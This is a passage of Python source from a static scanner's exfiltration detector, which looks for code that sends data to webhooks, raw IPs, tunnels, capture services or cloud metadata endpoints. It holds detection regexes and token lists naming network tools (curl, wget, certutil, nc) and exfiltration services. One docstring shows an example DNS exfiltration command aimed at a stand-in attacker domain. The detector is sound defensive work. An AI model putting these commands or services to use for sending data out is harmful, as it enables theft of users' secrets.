            urls = list(args[:1]) + [k.value for k in node.keywords if k.arg in _URL_KWARGS]
            return NetCall(call, "webhook-client", urls, True) if urls else None
        strong = id(node) in self.marked or name.startswith(_NET_PREFIXES) or last in _CLIENT_BUILDERS
        if not strong and last not in _SEND_VERBS and last not in _FETCH_VERBS:
            return None
        urls = [k.value for k in node.keywords if k.arg in _URL_KWARGS]
        method = _literal_method(args[0]) if args else None
        if method is not None and len(args) > 1:
            urls.append(args[1])
        elif args:
            urls.append(args[0])
        if not urls:
            return None
        send = (
            last in _SEND_VERBS
            or method in ("POST", "PUT", "PATCH")
            or _has_data(call)
            or (last == "Request" and len(args) > 1)
        )
        return NetCall(call, "http", urls, send, loose=not strong)

    def _dns_method(self, call: CallSite) -> bool:
        if call.attr not in ("resolve", "query") or not call.node.args or not self.dns_module:
            return False
        func = call.node.func
        if not isinstance(func, ast.Attribute):
            return False
        receiver = func.value
        if isinstance(receiver, ast.Name):
            bound = self.ctx.facts.binding(receiver.id, call.line + 1)
            receiver = bound if bound is not None else receiver
        if isinstance(receiver, ast.Call):
            return (self.ctx.facts_resolve(receiver.func) or "").startswith("dns.")
        return (self.ctx.facts_resolve(receiver) or "").startswith("dns.")

    def _socket(self, call: CallSite) -> bool:
        return _receiver_call(self.ctx, call) in ("socket.socket", "socket.create_connection")

    def _find_wrappers(self, direct: list[NetCall]) -> None:
        """Functions that pass one of their parameters on as a URL: ``def LoadUrlib(hook, data)``."""
        for found in direct:
            function = found.call.scope.enclosing_function()
            if function is None or function.kind is not ScopeKind.FUNCTION:
                continue
            for expr in found.urls:
                url = expr
                if (
                    isinstance(url, ast.Call)
                    and _last(self.ctx.facts_resolve(url.func)) == "Request"
                    and url.args
                ):
                    url = url.args[0]
                if isinstance(url, ast.Name) and url.id in function.params:
                    index = function.params.index(url.id)
                    if function.params and function.params[0] in ("self", "cls"):
                        continue
                    previous = self.wrappers.get(function.name)
                    self.wrappers[function.name] = (index, found.send or bool(previous and previous[1]))


def _has_data(call: CallSite) -> bool:
    return any(k.arg in _DATA_KWARGS for k in call.node.keywords)


def _receiver_call(ctx: PyContext, call: CallSite) -> str | None:
    """The resolved constructor of a method call's receiver: ``s.connect`` with ``s = socket.socket()``."""
    func = call.node.func
    if not isinstance(func, ast.Attribute):
        return None
    receiver: ast.expr | None = func.value
    if isinstance(receiver, ast.Name):
        receiver = _local_value(ctx, receiver.id, call.scope, call.line)
    if isinstance(receiver, ast.Call):
        return ctx.facts_resolve(receiver.func)
    return None


def _local_value(ctx: PyContext, name: str, scope: Scope, line: int) -> ast.expr | None:
    """What ``name`` was last bound to: an assignment, or a ``with``/``for`` target in this scope."""
    bound = ctx.facts.binding(name, line + 1)
    if bound is not None:
        return bound
    for names, value in reversed(scope.assigns):
        if name in names:
            return value
    return None


def _expr_calls(
    ctx: PyContext, node: ast.expr, scope: Scope, depth: int = 0, seen: set[str] | None = None
) -> Iterator[ast.Call]:
    """Calls inside an expression and inside what the names it uses were bound to (a few hops)."""
    seen = set() if seen is None else seen
    for child in ast.walk(node):
        if isinstance(child, ast.Call):
            yield child
        elif isinstance(child, ast.Name) and depth < 4 and child.id not in seen:
            seen.add(child.id)
            bound = _local_value(ctx, child.id, scope, getattr(child, "lineno", 1 << 30))
            if bound is not None:
                yield from _expr_calls(ctx, bound, scope, depth + 1, seen)


def _fixed_external_host(host: str) -> bool:
    host = host.strip().lower()
    if not host or UNKNOWN in host or " " in host:
        return False
    if host.startswith(_LOCAL_HOSTS) or host.endswith(_LOCAL_SUFFIXES) or host in ("", "<broadcast>"):
        return False
    if _BARE_IP.match(host):
        return public_ip(host)
    return "." in host and bool(re.fullmatch(r"[a-z0-9.-]+", host))


# -- text (shell, batch, PowerShell, JavaScript, unparseable Python) --------------------------------

_TEXT_NET_VERB = re.compile(
    r"(?i)\b(?:curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|webclient|uploadfile|uploadstring|"
    r"downloadstring|downloadfile|start-bitstransfer|bitsadmin|certutil|fetch|axios|xmlhttprequest|"
    r"requests|urlopen|urllib|httpx|http\.request|https\.request|nslookup|dig|nc|ncat)\b"
)
_TEXT_SEND_HINT = re.compile(
    r"(?i)(?:\s-(?:d|F|T)\b|--data|--form|--upload-file|-X\s*[\"']?(?:POST|PUT)|--post-(?:data|file)|"
    r"-Method\s+[\"']?(?:Post|Put)|-Body\b|-InFile\b|UploadFile|UploadString|UploadData|\$\(|`|"
    r"method\s*:\s*[\"'](?:POST|PUT)|\.post\(|\.put\()"
)
_TEXT_WEBHOOK_VERB = re.compile(
    r"(?i)\b(?:curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm|webclient|fetch|axios|xmlhttprequest|"
    r"request|requests|urlopen|httpx|post|send)\b"
)
_CURL = re.compile(r"\b(?:curl|wget)\s")
_DNS_TEXT = re.compile(r"(?i)\b(?:nslookup|dig|host|ping|drill|resolve-dnsname)\s")
_SHELL_VAR = re.compile(r"(?:\$\(|\$\{|`|%[A-Za-z_][\w]*%|\$[A-Za-z_])")
_COMMENT = ("#", "//", "REM ", "rem ", "::", "<#")
_MARKED_METHODS = frozenset(
    {"request", "sendall", "sendto", "send", "post", "put", "patch", "sendmail", "send_message", "storbinary"}
)


_DNS_WORDS = ("nslookup", "dig ", "host ", "ping ", "drill ", "resolve-dnsname")


def _dns_stretches(line: str) -> str:
    """A long line (minified JavaScript: a whole file) cut to the stretches after its DNS words,
    which is all dns_command reads; a case-insensitive regex over megabytes was the cost."""
    if len(line) <= 4000:
        return line
    lower = line.lower()
    if len(lower) != len(line):
        return line
    hits = hint_index(_DNS_WORDS).find_all(lower)[:50]
    return " ; ".join(line[max(0, start - 1) : start + 400] for start, _ in hits)


def dns_command(command: str) -> bool:
    """``nslookup $(whoami).x.attacker.tld``: a lookup of a name with variable data before a domain."""
    for match in _DNS_TEXT.finditer(command):
        argument = command[match.end() : match.end() + 300].split("|", 1)[0].split(";", 1)[0]
        for raw in argument.split():
            word = raw.strip("\"'")
            if word.startswith("-") or not (UNKNOWN in word or _SHELL_VAR.search(word)):
                continue
            tail = _SHELL_VAR.split(word.replace(UNKNOWN, "$x"))[-1]
            suffix = re.search(r"((?:\.[a-z0-9_-]{1,63}){2,8})\.?$", tail.lower())
            if (
                suffix
                and not suffix.group(1).endswith(_LOCAL_SUFFIXES)
                and re.search(r"\.[a-z]{2,24}$", suffix.group(1))
            ):
                return True
    return False


class ExfiltrationDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = (
        WEBHOOK_SEND,
        AUTO_SEND,
        AUTO_FETCH,
        CALLED_ENDPOINT,
        DNS_COMPUTED,
        DNS_ENCODED,
        SOCKET_SEND,
        METADATA_RELAY,
    )
    # Few and cheap: every token costs a pass over every file. The rarer services are context
    # tokens (parsed only next to network code); raw-IP URLs are "://<digit>".
    tokens: ClassVar[tuple[str, ...]] = (
        "/webhooks/",
        "hooks.slack.com",
        "api.telegram.org",
        "pastebin",
        "transfer.sh",
        "gofile",
        "catbox",
        "anonfile",
        "ngrok",
        "trycloudflare",
        "pipedream",
        "webhook.site",
        "interact.sh",
        "oastify",
        "oast.",
        "burpcollaborator",
        "ceye.io",
        "dnslog",
        "from dns",
        "169.254.1",
        "metadata.google",
    )
    context_tokens: ClassVar[tuple[str, ...]] = (
        *(f"://{digit}" for digit in "123456789"),
        "paste",
        "rentry",
        "file.io",
        "0x0.st",
        "temp.sh",
        "serveo",
        "loca.lt",
        "localtunnel",
        "localhost.run",
        "requestbin",
        "requestcatcher",
        "canarytokens",
        "ebhook",
        ".sendall(",
        ".sendto(",
        "nslookup",
    )
    text_kinds: ClassVar[frozenset[FileKind]] = frozenset(
        {FileKind.PYTHON, FileKind.SHELL, FileKind.BATCH, FileKind.POWERSHELL, FileKind.JAVASCRIPT}
    )

    # -- Python --------------------------------------------------------------------------------

    def on_module(self, ctx: PyContext) -> None:
        text = StaticText(ctx)
        network = _Network(ctx, text)
        calls = list(network.calls())
        for found in calls:
            if found.kind == "dns":
                self._dns(ctx, text, found)
            elif found.kind == "socket":
                continue
            self._destinations(ctx, text, found)
        self._sockets(ctx, text, calls)
        self._metadata_relay(ctx, text, calls)
        self._extra_marks(ctx)

    def _destinations(self, ctx: PyContext, text: StaticText, found: NetCall) -> None:
        call = found.call
        for url in found.urls:
            skeleton = text.of(url)
            if found.loose and "://" not in skeleton:
                continue
            if found.kind == "process":
                if _DNS_TEXT.search(skeleton) and dns_command(skeleton):
                    ctx.report(
                        DNS_COMPUTED, call.line, ctx.line_text(call.line).strip(), ctx.context_of(call.scope)
                    )
                skeleton = skeleton if _TEXT_NET_VERB.search(skeleton) else ""
            for dest in destinations(skeleton):
                send = found.send or dest.data_in_url or dest.kind == Dest.CAPTURE
                if found.kind == "process":
                    send = send or bool(_TEXT_SEND_HINT.search(skeleton)) or UNKNOWN in skeleton
                self._report_destination(ctx, call, dest, send)

    def _report_destination(self, ctx: PyContext, call: CallSite, dest: Destination, send: bool) -> None:
        evidence = f"{ctx.line_text(call.line).strip()[:150]}  [{dest.kind}: {dest.what}]"
        context = ctx.context_of(call.scope)
        if dest.kind == Dest.WEBHOOK:
            ctx.report(WEBHOOK_SEND, call.line, evidence, context)
            ctx.mark(Cap.NETWORK_SEND, call, f"{dest.what} webhook", payload=ctx.call_args(call))
            return
        if context.runs_automatically:
            ctx.report(AUTO_SEND if send else AUTO_FETCH, call.line, evidence, context)
        else:
            ctx.report(CALLED_ENDPOINT, call.line, evidence, context)
        if send and not any(m.node is call.node and m.cap is Cap.NETWORK_SEND for m in ctx.module_marks):
            ctx.mark(Cap.NETWORK_SEND, call, f"{dest.kind} {dest.what}", payload=ctx.call_args(call))

    def _dns(self, ctx: PyContext, text: StaticText, found: NetCall) -> None:
        call = found.call
        name = found.urls[0]
        skeleton = text.of(name)
        match = _DNS_SUFFIX.search(skeleton)
        if match is None:
            return
        suffix = match.group(1).lower()
        if suffix.endswith(_LOCAL_SUFFIXES) or not re.search(r"\.[a-z]{2,24}$", suffix):
            return
        encoded = any(
            (ctx.facts_resolve(c.func) or "") in _ENCODERS
            or (isinstance(c.func, ast.Attribute) and c.func.attr == "hex" and not c.args)
            for c in _expr_calls(ctx, name, call.scope)
        )
        evidence = (
            f"{ctx.line_text(call.line).strip()[:150]}  [name: {skeleton.replace(UNKNOWN, '<data>')[-80:]}]"
        )
        ctx.report(DNS_ENCODED if encoded else DNS_COMPUTED, call.line, evidence, ctx.context_of(call.scope))

    def _sockets(self, ctx: PyContext, text: StaticText, calls: list[NetCall]) -> None:
        sends_by_scope: dict[int, list[CallSite]] = {}
        for call in ctx.facts.calls:
            if call.attr in ("send", "sendall", "sendto", "sendfile", "makefile") and _receiver_call(
                ctx, call
            ) in (
                "socket.socket",
                "socket.create_connection",
                "ssl.wrap_socket",
            ):
                sends_by_scope.setdefault(id(call.scope), []).append(call)
        for found in calls:
            if found.kind != "socket" or not found.urls:
                continue
            address = found.urls[0]
            if not isinstance(address, ast.Tuple) or not address.elts:
                continue
            host = text.of(address.elts[0])
            if not _fixed_external_host(host):
                continue
            if not found.send and not sends_by_scope.get(id(found.call.scope)):
                continue
            port = text.of(address.elts[1]) if len(address.elts) > 1 else "?"
            call = found.call
            evidence = f"{ctx.line_text(call.line).strip()[:150]}  [{host}:{port.replace(UNKNOWN, '?')}]"
            context = ctx.context_of(call.scope)
            if public_ip(host):
                dest = Destination(Dest.RAW_IP, f"{host}:{port}")
                self._report_destination(ctx, call, dest, True)
            else:
                ctx.report(SOCKET_SEND, call.line, evidence, context)

    def _metadata_relay(self, ctx: PyContext, text: StaticText, calls: list[NetCall]) -> None:
        fetches = [
            f.call.node
            for f in calls
            if f.kind == "http" and any(host in text.of(u) for u in f.urls for host in METADATA_HOSTS)
        ]
        if not fetches:
            return
        fetch_ids = {id(node) for node in fetches}
        for found in calls:
            if found.kind not in ("http", "webhook-client", "wrapper") or not found.send:
                continue
            if any(host in text.of(u) for u in found.urls for host in METADATA_HOSTS):
                continue
            call = found.call
            payload = [k.value for k in call.node.keywords if k.arg in _DATA_KWARGS] + call.node.args[1:]
            if any(id(c) in fetch_ids for p in payload for c in _expr_calls(ctx, p, call.scope)):
                ctx.report(
                    METADATA_RELAY, call.line, ctx.line_text(call.line).strip(), ctx.context_of(call.scope)
                )

    def _extra_marks(self, ctx: PyContext) -> None:
        """NETWORK_SEND on sends the central tagger misses: ``with``-bound sockets and sessions,
        ``http.client`` POST bodies."""
        already = {id(m.node) for m in ctx.module_marks if m.cap is Cap.NETWORK_SEND and m.node is not None}
        for call in ctx.facts.calls:
            if id(call.node) in already or call.attr not in _MARKED_METHODS:
                continue
            receiver = _receiver_call(ctx, call)
            if receiver is None or not receiver.startswith((*_NET_PREFIXES, "smtplib.", "ftplib.")):
                continue
            args = call.node.args
            if call.attr == "request":
                method = _literal_method(args[0]) if args else None
                body = list(args[2:]) + [k.value for k in call.node.keywords if k.arg == "body"]
                if method in ("POST", "PUT", "PATCH") or body:
                    ctx.mark(Cap.NETWORK_SEND, call, f"{receiver}.request", payload=body)
            else:
                ctx.mark(Cap.NETWORK_SEND, call, f"{receiver}.{call.attr}", payload=ctx.call_args(call))

    # -- text ----------------------------------------------------------------------------------

    def on_text(self, ctx: TextContext) -> None:
        """Shell, batch, PowerShell, JavaScript, decoded text and unparseable Python.

        Texts can be megabytes of bundled JavaScript: whole-text scans with literal anchors find
        the few candidate lines, and only those are looked at closely.
        """
        webhook_lines = self._text_webhooks(ctx)
        candidates: dict[int, list[Destination]] = {}
        for match in _URL_HOST.finditer(ctx.text):
            host = match.group(1).rstrip(".")
            domain = _service(host)
            if domain is not None:
                dest = Destination(_DOMAIN_KIND[domain], domain)
            elif _BARE_IP.match(host) and public_ip(host):
                dest = Destination(Dest.RAW_IP, host)
            else:
                continue
            line_no = ctx.line_of(match.start())
            if line_no not in webhook_lines:
                candidates.setdefault(line_no, []).append(dest)
            if len(candidates) > 200:
                break
        for match in _CURL.finditer(ctx.text):  # scheme-less hosts: curl x.oastify.com
            line_no = ctx.line_of(match.start())
            if line_no in candidates or line_no in webhook_lines or len(candidates) > 300:
                continue
            line = ctx.line_text(line_no)
            found = destinations(line) if len(line) <= 2000 else []
            candidates[line_no] = [d for d in found if d.kind != Dest.WEBHOOK]
        reported = 0
        for line_no, found in sorted(candidates.items()):
            line = ctx.line_text(line_no).strip()
            if not found or line.startswith(_COMMENT) or not _TEXT_NET_VERB.search(line):
                continue
            for dest in {d.what: d for d in found}.values():
                self._text_destination(ctx, line_no, line, dest)
                reported += 1
            if reported > 20:
                break
        dns_lines = ctx.hint_lines(_DNS_WORDS)
        for line_no in sorted(dns_lines)[:200]:
            line = ctx.line_text(line_no).strip()
            if not line.startswith(_COMMENT) and dns_command(_dns_stretches(line)):
                ctx.report(DNS_COMPUTED, line_no, line[:200])

    def _text_webhooks(self, ctx: TextContext) -> dict[int, str]:
        webhook_lines: dict[int, str] = {}
        for line_no in sorted(ctx.hint_lines(("webhooks/", "hooks.slack.com", "api.telegram.org")))[:200]:
            line = ctx.line_text(line_no)
            for what, pattern in _WEBHOOKS:
                if pattern.search(line):
                    webhook_lines.setdefault(line_no, what)
        if webhook_lines and _TEXT_WEBHOOK_VERB.search(ctx.text):
            for line_no, what in sorted(webhook_lines.items())[:20]:
                line = ctx.line_text(line_no).strip()
                if not line.startswith(_COMMENT):
                    ctx.report(WEBHOOK_SEND, line_no, f"{line[:150]}  [{what}]")
                    ctx.mark(Cap.NETWORK_SEND, line_no, f"{what} webhook")
        return webhook_lines

    def _text_destination(self, ctx: TextContext, line_no: int, line: str, dest: Destination) -> None:
        send = dest.kind == Dest.CAPTURE or bool(_TEXT_SEND_HINT.search(line))
        auto = ctx.file.context.runs_automatically
        rule = (AUTO_SEND if send else AUTO_FETCH) if auto else CALLED_ENDPOINT
        ctx.report(rule, line_no, f"{line[:150]}  [{dest.kind}: {dest.what}]")


__all__ = [
    "SITE_DIR",
    "UNKNOWN",
    "Dest",
    "Destination",
    "ExfiltrationDetector",
    "StaticText",
    "destinations",
    "normalise_path",
    "public_ip",
]
